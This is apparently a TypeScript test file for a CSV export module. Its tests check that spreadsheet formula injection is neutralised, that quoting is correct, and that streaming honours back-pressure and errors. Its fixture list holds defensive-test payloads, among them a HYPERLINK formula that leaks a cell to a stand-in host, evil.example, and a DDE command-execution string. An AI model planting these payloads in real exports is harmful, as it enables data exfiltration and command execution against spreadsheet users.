import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { csvRecords, parseCsv } from "@/test-support/csv";
import { type CsvColumn, csvCell, csvLine, csvStream, UTF8_BOM } from "./csv";

/** Names an Okta admin (or anyone who edits a profile) can type, and what a spreadsheet must show. */
const HOSTILE: [string, string][] = [
  [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
    `'=HYPERLINK("http://evil.example/?leak="&A2,"Click")`,
  ],
  ["+1", "'+1"],
  ["-2+3", "'-2+3"],
  ["@SUM(A1)", "'@SUM(A1)"],
  ["\t=1+1", "'\t=1+1"],
  ["\r=1+1", "'\r=1+1"],
  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ["Ann\r\nLee", "Ann\r\nLee"],
  ["line\nbreak", "line\nbreak"],
  ['say "hi"', 'say "hi"'],
  ["Lee, Ann", "Lee, Ann"],
  ["Zoë Ångström 👩🏽‍💻", "Zoë Ångström 👩🏽‍💻"],
  ["\u202egnp.exe", "\u202egnp.exe"],
  ["e\u0301\u200d中文\uFEFFx", "e\u0301\u200d中文\uFEFFx"],
  // Not at the start, nothing to neutralise.
  ["a=b+c-d@e", "a=b+c-d@e"],
  [" =1", " =1"],
];

describe("csvCell", () => {
  it.each(HOSTILE)("%j reads back as %j", (value, shown) => {
    expect(parseCsv(csvLine([value, "next"]))).toEqual([[shown, "next"]]);
  });

  it("quotes only what needs it, and doubles quotes", () => {
    expect(csvCell("plain")).toBe("plain");
    expect(csvCell('a"b')).toBe('"a""b"');
    expect(csvCell("a,b")).toBe('"a,b"');
    expect(csvCell("a\nb")).toBe('"a\nb"');
    expect(csvCell("-1")).toBe("'-1");
    expect(csvCell("=1,2")).toBe(`"'=1,2"`);
    expect(csvCell(null)).toBe("");
    expect(csvCell("")).toBe("");
  });

  it("any text reads back as itself, or after one quote when a spreadsheet would evaluate it", () => {
    fc.assert(
      fc.property(
        fc.array(fc.string({ unit: "binary", maxLength: 40 }), { minLength: 1, maxLength: 5 }),
        (cells) => {
          const shown = cells.map((c) => (/^[=+\-@\t\r]/.test(c) ? `'${c}` : c));
          expect(parseCsv(csvLine(cells))).toEqual([shown]);
        },
      ),
    );
  });
});

interface Row {
  name: string;
}
const COLUMNS: CsvColumn<Row>[] = [{ header: "Name", value: (r) => r.name }];

/** Pages of rows, counting how many were read and whether the source was closed. */
function countedPages(pages: Row[][]) {
  const seen = { read: 0, closed: false };
  async function* generate() {
    try {
      for (const page of pages) {
        seen.read++;
        yield page;
      }
    } finally {
      seen.closed = true;
    }
  }
  return { seen, pages: generate() };
}

// ignoreBOM: keep the byte-order mark in the text (a decoder drops it by default).
const decode = (bytes: Uint8Array | undefined) => new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes);

describe("csvStream", () => {
  it("writes a byte-order mark, the header, then the rows (empty pages skipped)", async () => {
    const { pages } = countedPages([[{ name: "Ann" }], [], [{ name: "=Bob" }, { name: "Cy, Jr" }]]);
    const bytes = new Uint8Array(await new Response(csvStream(COLUMNS, pages)).arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(csvRecords(decode(bytes))).toEqual([{ Name: "Ann" }, { Name: "'=Bob" }, { Name: "Cy, Jr" }]);
  });

  it("reads a page only when the reader asks for one, and stops reading when cancelled", async () => {
    const { seen, pages } = countedPages(Array.from({ length: 10 }, (_, i) => [{ name: `Row ${i}` }]));
    const reader = csvStream(COLUMNS, pages).getReader();
    await new Promise((resolve) => setTimeout(resolve, 20));
    expect(seen.read).toBe(0);
    expect(decode((await reader.read()).value)).toBe(`${UTF8_BOM}Name\r\n`);
    expect(seen.read).toBe(0);
    expect(decode((await reader.read()).value)).toBe("Row 0\r\n");
    await new Promise((resolve) => setTimeout(resolve, 20));
    expect(seen.read).toBe(1);
    await reader.read();
    expect(seen.read).toBe(2);
    await reader.cancel();
    expect(seen.closed).toBe(true);
    expect(seen.read).toBe(2);
  });

  it("fails the stream when a page cannot be read, rather than end it as if complete", async () => {
    async function* failing() {
      yield [{ name: "Ann" }];
      throw new Error("connection lost");
    }
    await expect(new Response(csvStream(COLUMNS, failing())).text()).rejects.toThrow("connection lost");
  });
});
